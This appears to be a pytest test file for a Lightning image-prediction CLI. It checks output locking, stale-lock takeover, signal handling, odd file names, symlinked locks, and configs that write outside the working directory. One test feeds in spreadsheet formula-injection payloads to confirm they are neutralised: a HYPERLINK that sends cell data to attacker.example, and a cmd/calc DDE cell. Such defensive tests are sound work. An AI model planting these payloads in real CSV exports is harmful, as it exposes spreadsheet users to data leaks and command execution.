"""No output is lost or overwritten silently: config files, predictions, maps, pictures, skipped lists."""

from __future__ import annotations

import json
import os
import signal

import numpy as np
import pytest
from lightning.pytorch import Callback
from PIL import Image

from dsm_lightning.app.cli import cli as main
from dsm_lightning.app.writer import PredictionWriter
from examples.saliency.app import maps_cli
from tests.lightning_helpers import make_image_folder, read_csv, read_tsv
from tests.test_cli_writer import cli_args as _cli_args
from tests.test_saliency_example import args as maps_args
from tests.test_saliency_example import tiny_saliency


def cli_args(tmp_path, data_dir, output, *extra):
    """The CLI arguments of tests/test_cli_writer.py with ``--writer.overwrite=true``: the tests here run onto an
    older output on purpose, to show it is replaced only by a run that finishes."""
    return _cli_args(tmp_path, data_dir, output, "--writer.overwrite=true", *extra)


def test_cli_never_writes_or_replaces_config_yaml_in_the_working_directory(tmp_path, monkeypatch):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    monkeypatch.chdir(tmp_path)
    own = "# my own file\ndatabase: prod\n"
    (tmp_path / "config.yaml").write_text(own)
    main(["predict", *cli_args(tmp_path, data, tmp_path / "p.csv")])
    assert (tmp_path / "config.yaml").read_text() == own
    user_config = tmp_path / "mine.yaml"
    user_config.write_text("# my settings\ndata:\n  batch_size: 2\n")
    main(["predict", f"--config={user_config}", *cli_args(tmp_path, data, tmp_path / "p.csv")])
    assert user_config.read_text() == "# my settings\ndata:\n  batch_size: 2\n", "the --config input is untouched"
    assert sorted(p.name for p in tmp_path.glob("*.yaml")) == ["config.yaml", "mine.yaml"]


def test_with_a_logger_the_config_goes_to_the_versioned_log_folder(tmp_path, monkeypatch):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    monkeypatch.chdir(tmp_path)
    args = [a for a in cli_args(tmp_path, data, tmp_path / "p.csv") if a != "--trainer.logger=false"]
    logger = ["--trainer.logger=lightning.pytorch.loggers.CSVLogger", f"--trainer.logger.save_dir={tmp_path}"]
    main(["predict", *args, *logger])
    main(["predict", *args, *logger])
    saved = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("config.yaml"))
    assert saved == ["lightning_logs/version_0/config.yaml", "lightning_logs/version_1/config.yaml"]


def test_a_second_run_on_the_same_output_is_refused_at_start_while_the_first_runs(tmp_path):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    out = tmp_path / "preds.csv"
    lock = tmp_path / ".preds.csv.lock"
    first = PredictionWriter(str(out), overwrite=True)
    first._take_lock()  # a live run holds the output
    with pytest.raises(FileExistsError, match=r"another run \(process \d+ on .+\) is writing"):
        main(["predict", *cli_args(tmp_path, data, out)])
    assert not out.exists()
    first._release()
    lock.write_text("999999999")  # a run that was killed: its lock is taken over
    main(["predict", *cli_args(tmp_path, data, out)])
    assert len(read_csv(out)) == 2 and not lock.exists(), "written, lock released"


@pytest.mark.parametrize("owner", ["1", "own", "garbage", ""])
def test_a_lock_file_no_live_run_holds_is_taken_over_whatever_pid_it_names(tmp_path, owner):
    """PID 1 (the CLI in a container) and the process's own PID are alive, yet the run that wrote them is gone."""
    lock = tmp_path / ".p.csv.lock"
    lock.write_text(str(os.getpid()) if owner == "own" else owner)
    writer = PredictionWriter(str(tmp_path / "p.csv"), overwrite=True)
    writer._take_lock()
    assert lock.read_text().split()[0] == str(os.getpid())
    writer._release()
    assert not lock.exists()


def test_runs_racing_to_take_over_a_dead_lock_never_both_win(tmp_path):
    import threading

    out = tmp_path / "p.csv"
    for trial in range(60):
        (tmp_path / ".p.csv.lock").write_text("999999999")  # left by a killed run
        writers = [PredictionWriter(str(out), overwrite=True) for _ in range(3)]
        barrier = threading.Barrier(len(writers))
        won = []

        def take(writer, barrier=barrier, won=won):
            barrier.wait()
            try:
                writer._take_lock()
                won.append(writer)
            except FileExistsError:
                pass

        threads = [threading.Thread(target=take, args=(w,)) for w in writers]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(won) == 1, f"trial {trial}: {len(won)} runs own the output"
        won[0]._release()


def test_a_released_lock_is_not_held_by_a_run_that_opened_it_before_the_release(tmp_path):
    out = tmp_path / "p.csv"
    first, second, third = (PredictionWriter(str(out), overwrite=True) for _ in range(3))
    first._take_lock()
    stale = os.open(tmp_path / ".p.csv.lock", os.O_RDWR)  # opened while held, locked after release
    first._release()
    import fcntl

    fcntl.flock(stale, fcntl.LOCK_EX | fcntl.LOCK_NB)  # an old inode: holding it owns nothing
    second._take_lock()
    with pytest.raises(FileExistsError):
        third._take_lock()
    os.close(stale)
    second._release()


def test_a_run_that_takes_over_removes_the_parts_and_temporaries_of_dead_runs(tmp_path):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    out = tmp_path / "p.csv"
    dead = [".p.csv.5acb64adf82a.rank0.part", ".p.csv.0123456789ab.rank1.part", ".p.csv.5acb64adf82a.tmp"]
    dead += [".p.csv.skipped.tsv.5acb64adf82a.tmp"]
    mine = [".p.csvx.1.rank0.part", ".other.csv.1.rank0.part", "p.csv.notes.tmp"]  # not this output's leftovers
    for name in dead + mine:
        (tmp_path / name).write_text("{}\n" * 1000)
    (tmp_path / ".p.csv.lock").write_text("999999999")
    main(["predict", *cli_args(tmp_path, data, out)])
    assert len(read_csv(out)) == 2
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith((".p.", "p.csv."))) == sorted(
        [".p.csvx.1.rank0.part", "p.csv.notes.tmp"]
    )


def test_csv_and_jsonl_outputs_of_one_stem_keep_their_own_skipped_lists(tmp_path):
    broken = make_image_folder(tmp_path / "broken", labelled=False, classes=1, per_class=2)
    (broken / "broken.png").write_bytes(b"not an image")
    clean = make_image_folder(tmp_path / "clean", labelled=False, classes=1, per_class=2)
    with pytest.warns(UserWarning):
        main(["predict", *cli_args(tmp_path, broken, tmp_path / "a.csv")])
    main(["predict", *cli_args(tmp_path, clean, tmp_path / "a.jsonl")])
    assert [os.path.basename(r["path"]) for r in read_tsv(tmp_path / "a.csv.skipped.tsv")] == ["broken.png"]
    assert not (tmp_path / "a.jsonl.skipped.tsv").exists()


def _non_utf8_folder(tmp_path):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    good = next(iter(sorted(data.iterdir()))).read_bytes()
    raw = os.fsencode(data)
    for name in (b"bad\xff.png", b"caf\xe9-latin1.png", b"\xe6\x97\xa5\xe6\x9c\xac.png"):  # latin-1 names, UTF-8 one
        with open(raw + b"/" + name, "wb") as fh:
            fh.write(good)
    with open(raw + b"/broken\xfe.png", "wb") as fh:
        fh.write(b"not an image")
    return data


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_a_file_name_that_is_not_utf8_loses_no_prediction(tmp_path, suffix, monkeypatch):
    monkeypatch.setenv("LC_ALL", "C")  # the writer's encoding is its own, not the locale's
    data = _non_utf8_folder(tmp_path)
    out = tmp_path / f"p{suffix}"
    with pytest.warns(UserWarning, match="broken"):
        main(["predict", *cli_args(tmp_path, data, out)])
    text = out.read_text(encoding="utf-8")  # valid UTF-8 throughout
    if suffix == ".csv":
        names = sorted(os.path.basename(r["path"]) for r in read_csv(out))
        assert names == sorted(["bad\\udcff.png", "caf\\udce9-latin1.png", "c0_0.png", "c0_1.png", "日本.png"])
    else:
        paths = [json.loads(line)["path"] for line in text.splitlines()]
        back = sorted(os.path.basename(os.fsencode(p)) for p in paths)  # the file's own bytes, round-tripped
        assert back == sorted([b"bad\xff.png", b"caf\xe9-latin1.png", b"c0_0.png", b"c0_1.png", "日本.png".encode()])
        assert all(os.path.exists(os.fsencode(p)) for p in paths)
    listed = read_tsv(tmp_path / f"p{suffix}.skipped.tsv")
    assert [os.path.basename(r["path"]) for r in listed] == ["broken\\udcfe.png"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    names = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    data = tmp_path / "imgs"
    for i, name in enumerate(names):
        make_image_folder(data / name, labelled=False, classes=1, per_class=1, seed=i)
    (data / "-x.png").write_bytes(b"not an image")  # not inside a class folder: makes the folder unlabelled
    out = tmp_path / "p.csv"
    args = [a for a in cli_args(tmp_path, data, out) if "num_classes" not in a]
    with pytest.warns(UserWarning):
        main(["predict", *args, "--model.num_classes=3", "--model.class_names=" + json.dumps(names)])
    rows = read_csv(out)
    cells = [v for r in rows for k, v in r.items() if k.endswith("_name")]
    assert len(cells) == 6 and all(c[:1] == "'" and c[1:] in names for c in cells)
    assert all(v[:1] not in "=+-@\t\r" for r in rows for v in r.values())
    reasons = read_tsv(tmp_path / "p.csv.skipped.tsv")
    assert all(v[:1] not in "=+-@\t\r" for r in reasons for v in r.values())
    jsonl = tmp_path / "p.jsonl"
    with pytest.warns(UserWarning):
        main(
            [
                "predict",
                *args,
                "--model.num_classes=3",
                "--model.class_names=" + json.dumps(names),
                f"--writer.output={jsonl}",
            ]
        )
    assert {n for line in jsonl.read_text().splitlines() for n in json.loads(line)["names"]} <= set(names)


def test_part_and_temporary_names_differ_between_runs(tmp_path):
    a, b = (
        PredictionWriter(str(tmp_path / "p.csv"), overwrite=True),
        PredictionWriter(str(tmp_path / "p.csv"), overwrite=True),
    )
    assert a._part(0) != b._part(0) and a._tmp != b._tmp


def test_limit_predict_batches_zero_is_refused_and_leaves_the_old_file_alone(tmp_path):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    out = tmp_path / "preds.csv"
    out.write_text("STALE FROM LAST RUN\n")
    with pytest.raises(ValueError, match="limit_predict_batches=0 predicts no image"):
        main(["predict", *cli_args(tmp_path, data, out, "--trainer.limit_predict_batches=0")])


def test_skipped_list_escapes_tabs_and_newlines_in_names(tmp_path):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=2)
    for name in ("bad\ttab.png", "bad\nname.png"):
        (data / name).write_bytes(b"not an image")
    out = tmp_path / "preds.csv"
    with pytest.warns(UserWarning):
        main(["predict", *cli_args(tmp_path, data, out)])
    rows = read_tsv(tmp_path / "preds.csv.skipped.tsv")
    assert sorted(os.path.basename(r["path"]) for r in rows) == sorted(["bad\nname.png", "bad\ttab.png"])
    assert all(len(r) == 2 and r["reason"] for r in rows)


@pytest.mark.parametrize(("flag", "match"), [("--model.top_k=0", "top_k=0"), ("--model.top_k=-3", "top_k=-3")])
def test_top_k_below_one_is_refused(tmp_path, flag, match):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=1)
    with pytest.raises(ValueError, match=match):
        main(["predict", *cli_args(tmp_path, data, tmp_path / "p.csv", flag)])


@pytest.mark.parametrize("value", ["0", "-0.5", "1.5"])
def test_crop_pct_outside_0_1_is_refused(tmp_path, value):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=1)
    with pytest.raises(ValueError, match="crop_pct"):
        main(["predict", *cli_args(tmp_path, data, tmp_path / "p.csv", f"--data.crop_pct={value}")])


def _noise(path, seed):
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(np.random.default_rng(seed).integers(0, 255, (30, 40, 3), dtype=np.uint8)).save(path)


def test_maps_keep_extensions_folders_and_symlinked_folders_apart(tmp_path):
    checkpoint = tiny_saliency(tmp_path)
    images = tmp_path / "imgs"
    for i, name in enumerate(("cat.jpg", "cat.png", "dog.png", "a/0001.png", "b/0001.png")):
        _noise(images / name, i)
    _noise(tmp_path / "outside" / "dog.png", 9)
    (images / "linked").symlink_to(tmp_path / "outside")
    out = tmp_path / "maps"
    run = maps_cli(["predict", *maps_args(tmp_path, checkpoint, images, out)])
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.png"))
    expected = ["a/0001.png.png", "b/0001.png.png", "cat.jpg.png", "cat.png.png", "dog.png.png", "linked/dog.png.png"]
    assert written == expected
    assert run.trainer.callbacks and next(c for c in run.trainer.callbacks if hasattr(c, "output_dir")).written == 6


def test_maps_from_val_dir_keep_class_folders(tmp_path):
    checkpoint = tiny_saliency(tmp_path)
    images = tmp_path / "val"
    _noise(images / "class0" / "0001.png", 0)
    _noise(images / "class1" / "0001.png", 1)
    out = tmp_path / "maps"
    args = [
        a if not a.startswith("--data.predict_dir") else f"--data.val_dir={images}"
        for a in maps_args(tmp_path, checkpoint, images, out)
    ]
    maps_cli(["predict", *args])
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*.png")) == [
        "class0/0001.png.png",
        "class1/0001.png.png",
    ]


def test_vis_pictures_keep_sub_folders(tmp_path, capsys):
    from dsm_lightning.app.vis import main as vis_main

    for i, name in enumerate(("a/img.png", "b/img.png")):
        _noise(tmp_path / "imgs" / name, i)
    vis_main(
        [
            "--images",
            str(tmp_path / "imgs"),
            "--out",
            str(tmp_path / "vis"),
            "--model-name",
            "vit_tiny_patch16_224",
            "--img-size",
            "32",
            "--num-classes",
            "3",
        ]
    )
    written = sorted(p.relative_to(tmp_path / "vis").as_posix() for p in (tmp_path / "vis").rglob("*.png"))
    assert written == ["a/img.png_dsm.png", "b/img.png_dsm.png"]
    assert len(set(capsys.readouterr().out.split())) == 2


class _SendSignal(Callback):
    """Sends ``signum`` to this process at the end of batch 1 (as ``docker stop`` or a closed terminal would)."""

    def __init__(self, signum):
        self.signum = signum

    def on_predict_batch_end(self, trainer, pl_module, outputs, batch, batch_idx, dataloader_idx=0):
        if batch_idx == 1:
            os.kill(os.getpid(), self.signum)


def _predict_until_stopped(tmp_path, callbacks, capsys):
    from dsm_lightning import DSMCallback, is_patched
    from tests.lightning_helpers import tiny_classifier, tiny_data, trainer

    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=12)
    out = tmp_path / "p.csv"
    out.write_text("OLD OUTPUT\n")
    module = tiny_classifier()
    dm = tiny_data(data, predict_dir=str(data))
    writer = PredictionWriter(str(out), overwrite=True)
    run = trainer(callbacks=[DSMCallback(delay=1, r=2, min_agreement=None), writer, *callbacks])
    with pytest.raises(SystemExit) as stopped:
        run.predict(module, datamodule=dm, return_predictions=False)
    assert out.read_text() == "OLD OUTPUT\n", "the older output is intact"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["imgs", "p.csv"], "no lock, part or tmp left"
    assert not is_patched(module.model)
    return stopped.value.code, capsys.readouterr().err


@pytest.mark.parametrize(("name", "code"), [("SIGTERM", 143), ("SIGHUP", 129)])
def test_sigterm_or_sighup_in_predict_stops_at_the_batch_end_and_leaves_nothing(tmp_path, capsys, name, code):
    signum = getattr(signal, name)
    before = signal.getsignal(signal.SIGHUP)
    status, err = _predict_until_stopped(tmp_path, [_SendSignal(signum)], capsys)
    assert status == code
    lines = [line for line in err.splitlines() if "PredictionWriter" in line]
    assert len(lines) == 1 and f"stopped by {name} after 3 batches" in lines[0] and "unchanged" in lines[0]
    assert signal.getsignal(signal.SIGHUP) is before, "the writer's SIGHUP handler is gone after the run"


def test_sigint_in_predict_exits_1_and_leaves_nothing(tmp_path, capsys):
    status, _ = _predict_until_stopped(tmp_path, [_SendSignal(signal.SIGINT)], capsys)
    assert status == 1


def test_ctrl_c_during_the_final_merge_leaves_the_old_output_and_nothing_else(tmp_path, capsys, monkeypatch):
    import dsm_lightning.app.writer as writer_module

    def interrupted(value):
        raise KeyboardInterrupt

    monkeypatch.setattr(writer_module, "_cell", interrupted)  # the merge is writing the temporary file
    status, _ = _predict_until_stopped(tmp_path, [], capsys)
    assert status == 1


def test_a_config_that_sends_predictions_outside_the_working_directory_says_so(tmp_path, monkeypatch, recwarn):
    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=1)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    config = tmp_path / "downloaded.yaml"
    config.write_text("writer:\n  output: ../escaped/p.csv\n")
    args = [a for a in cli_args(tmp_path, data, tmp_path / "unused.csv") if not a.startswith("--writer.output")]
    with pytest.warns(UserWarning, match=r"downloaded.yaml sets writer.output='../escaped/p.csv', outside the working"):
        main(["predict", f"--config={config}", *args])
    assert len(read_csv(tmp_path / "escaped" / "p.csv")) == 1
    config.write_text("writer:\n  output: inside/p.csv\n")
    main(["predict", f"--config={config}", *args])
    main(["predict", f"--config={config}", *args, f"--writer.output={tmp_path}/flag.csv"])  # the user's own choice
    assert not [w for w in recwarn if "outside the working" in str(w.message)], "neither warns"


def test_a_lock_that_is_a_symbolic_link_is_replaced_and_its_target_never_written(tmp_path):
    victim = tmp_path / "precious.txt"
    victim.write_text("precious")
    lock = tmp_path / ".p.csv.lock"
    for target in (victim, tmp_path / "nowhere"):
        lock.symlink_to(target)
        writer = PredictionWriter(str(tmp_path / "p.csv"), overwrite=True)
        writer._take_lock()
        assert not lock.is_symlink() and lock.read_text().split()[0] == str(os.getpid())
        writer._release()
    assert victim.read_text() == "precious" and not (tmp_path / "nowhere").exists()
    lock.mkdir()
    with pytest.raises(IsADirectoryError, match="is a directory, where the writer keeps its lock; remove it"):
        PredictionWriter(str(tmp_path / "p.csv"), overwrite=True)._take_lock()


class _SigtermInValidation(Callback):
    def on_validation_batch_end(self, trainer, pl_module, outputs, batch, batch_idx, dataloader_idx=0):
        if batch_idx == 0:
            os.kill(os.getpid(), signal.SIGTERM)


def test_sigterm_in_validate_exits_143_not_0_and_unpatches(tmp_path, capsys):
    from dsm_lightning import DSMCallback, is_patched
    from dsm_lightning.app.console import run_console
    from tests.lightning_helpers import tiny_classifier, tiny_data, trainer

    data = make_image_folder(tmp_path / "imgs", classes=3, per_class=4)
    module = tiny_classifier()
    run = trainer(callbacks=[DSMCallback(delay=1, r=2, min_agreement=None), _SigtermInValidation()])
    with pytest.raises(SystemExit) as stopped:
        run_console(lambda: run.validate(module, datamodule=tiny_data(data), verbose=False), "dsm-lightning")
    assert stopped.value.code == 143 and not is_patched(module.model)
    assert "dsm-lightning: stopped by SIGTERM" in capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.parametrize(("name", "code"), [("SIGTERM", 143), ("SIGHUP", 129), ("SIGINT", 1)])
def test_a_signal_to_a_cli_predict_process_stops_it_cleanly(tmp_path, name, code):
    import glob
    import subprocess
    import sys
    import time

    data = make_image_folder(tmp_path / "imgs", labelled=False, classes=1, per_class=150)
    out = tmp_path / "p.csv"
    out.write_text("OLD\n")
    args = [a for a in cli_args(tmp_path, data, out) if not a.startswith("--data.batch_size")]
    command = [sys.executable, "-m", "dsm_lightning", "predict", *args, "--data.batch_size=1"]
    proc = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    start = time.time()
    while not [p for p in glob.glob(str(tmp_path / ".p.csv.*.part")) if os.path.getsize(p) > 1000]:
        assert proc.poll() is None and time.time() - start < 240, "the run ended before the signal"
        time.sleep(0.1)
    proc.send_signal(getattr(signal, name))
    _, err = proc.communicate(timeout=60)  # it stops within seconds; before, SIGTERM ran on to the end
    assert proc.returncode == code, err[-2000:]
    assert out.read_text() == "OLD\n" and sorted(p.name for p in tmp_path.iterdir()) == ["imgs", "p.csv"]


def test_without_flock_the_lock_falls_back_to_the_process_id(tmp_path, monkeypatch):
    import errno

    import dsm_lightning.app.writer as writer_module

    def no_locks(fd, operation):
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(writer_module.fcntl, "flock", no_locks)
    lock = tmp_path / ".p.csv.lock"
    for stale in ("999999999", str(os.getpid()), "garbage"):  # a dead run, this very process, junk: taken over
        lock.write_text(stale)
        writer = PredictionWriter(str(tmp_path / "p.csv"), overwrite=True)
        writer._take_lock()
        assert lock.read_text().split()[0] == str(os.getpid())
        writer._release()
    lock.write_text("1")  # PID 1 is alive and not us: refused, naming the lock to delete
    with pytest.raises(FileExistsError, match=r"another run \(process 1\).*delete .*\.p\.csv\.lock"):
        PredictionWriter(str(tmp_path / "p.csv"), overwrite=True)._take_lock()
